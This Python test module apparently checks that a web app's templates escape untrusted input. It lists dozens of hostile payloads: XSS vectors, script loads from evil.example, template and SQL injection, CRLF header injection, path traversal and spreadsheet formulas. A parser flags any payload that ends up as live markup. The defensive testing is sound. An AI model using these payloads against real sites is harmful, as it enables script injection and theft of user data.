"""Texts a hostile platform might send, and a reader that tells what of them became markup."""

from html.parser import HTMLParser
from typing import Any

_ATTACKS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert&#40;1)</script>", "<body onload=a()>",
    "<iframe src=javascript:alert(1)>", "<object data=//evil.example>", "<embed src=//evil.example>", "<base href=//e>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<math><mtext></p><style><img src onerror=alert(1)>",
    "<div hx-get=/people/ hx-trigger=load>", "<div hx-on:load=alert(1)>", "<b data-confirm=x data-copy=y>",
    "<div hx-swap-oob=\"innerHTML:#main\">x</div>", "<template><script>1</script></template>", "<plaintext>",
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><img src=x onerror=a()>",
    "\" autofocus onfocus=alert(1) x=\"", "` onclick=alert(1) `", "x\" hx-post=\"/people/1/deactivate/", "--><script>1",
    "]]><script>1</script>", "</title><script>1</script>", "</textarea><script>1</script>", "</style><script>1</script>",
    "</q></dd></dl></section></main><h1>Signed out</h1>", "<!--", "<![CDATA[", "<?xml version=\"1.0\"?>",
    "{{ 7*7 }}", "{% debug %}", "{% include 'base.html' %}", "{{ request.user.password }}", "${7*7}", "#{7*7}",
    "%(name)s", "%s%s%s%n", "{0.__class__}", "{name}", "javascript:alert(1)", "data:text/html,<script>1</script>",
    "style=\"background:url(//evil.example)\"", "expression(alert(1))", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;", "\\u003cscript\\u003e", "+ADw-script+AD4-", "＜script＞alert(1)＜/script＞", "<<script>a</script>",
    "\u202egnirts esrever\u202c", "\u2066<b>\u2069", "\u200b\ufeff<i>", "a\x00<script>b", "\ud83d<u>", "\x1b[31m<s>\x07",
    "\r\nSet-Cookie: a=b\r\n\r\n<h1>", "🦊<em>👩‍👩‍👧‍👦", "Z̴̛a̵l̶g̷o̵<mark>", "<script>" * 400, "x" * 20_000,
    "=HYPERLINK(\"//evil.example\")", "@SUM(1)<b>", "'; DROP TABLE x; --", "../../etc/passwd", "\u2028<b>\u2029",
]  # fmt: skip
MARK = "zq9"  # at the head of every payload, so that what came of it can be found
PAYLOADS = [f"{MARK}{number}{text}" for number, text in enumerate(_ATTACKS)]
# The same out of attributes, text areas, strings of scripts and other quotings.
_OUT_OF = ('">{}', "'>{}", "</textarea></select>{}", "&quot;&gt;{}")
MANY = [
    f"{MARK}{number}{text}"
    for number, text in enumerate(
        [*(one[:600] for one in _ATTACKS), *(way.format(one) for way in _OUT_OF for one in _ATTACKS[:36])]
    )
]

HARMLESS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "script",
        "body",
        "a",
        "div",
        "span",
        "main",
        "nav",
        "header",
        "footer",
        "section",
        "aside",
        "article",
        "form",
        "fieldset",
        "legend",
        "label",
        "input",
        "select",
        "option",
        "textarea",
        "button",
        "datalist",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "small",
        "strong",
        "em",
        "q",
        "code",
        "pre",
        "mark",
        "time",
        "details",
        "summary",
        "dialog",
        "kbd",
        "br",
        "hr",
        "svg",
        "path",
        "circle",
        "rect",
        "g",
        "line",
        "polyline",
        "text",
        "img",
        "figure",
        "figcaption",
    ]
)  # what templates of this house are made of; the payloads' own are told apart by what stands in them


class Reader(HTMLParser):
    """Collects every element with its attributes, the comments, and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.faults: list[str] = []
        self.words: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = tuple(name for name, _ in attrs)
        self.shape.append((tag, names))
        self._script = tag in ("script", "style")
        if MARK in tag or any(MARK in name for name in names):
            self.faults.append(f"a payload became markup: <{tag} {names}>")
        for name, value in attrs:
            if name.startswith(("on", "hx-on")) or name == "style":
                self.faults.append(f"a handler or style: <{tag} {name}={(value or '')[:60]}>")
            if (value or "").strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                self.faults.append(f"an address that runs: <{tag} {name}={(value or '')[:60]}>")
            inside = (value or "").startswith(("/", "?", "#")) and not (value or "").startswith("//")
            if name in ("href", "src", "action", "hx-get", "hx-post") and value and not inside:
                self.faults.append(f"an address out of the house: {name}={value[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self.shape.append((f"/{tag}", ()))
        self._script = False

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"a comment: {data[:60]}")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.faults.append(f"a declaration: {decl[:60]}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"a declaration: {data[:60]}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"an instruction: {data[:60]}")

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.faults.append(f"inline script or style: {data[:60]}")
        self.words.append(data)


def read(answer: Any) -> Reader:
    """Take an answer apart."""
    reader = Reader()
    reader.feed(answer.content.decode())
    reader.close()
    reader.faults += [f"<{tag}>" for tag, _ in reader.shape if tag.lstrip("/") not in HARMLESS]
    return reader
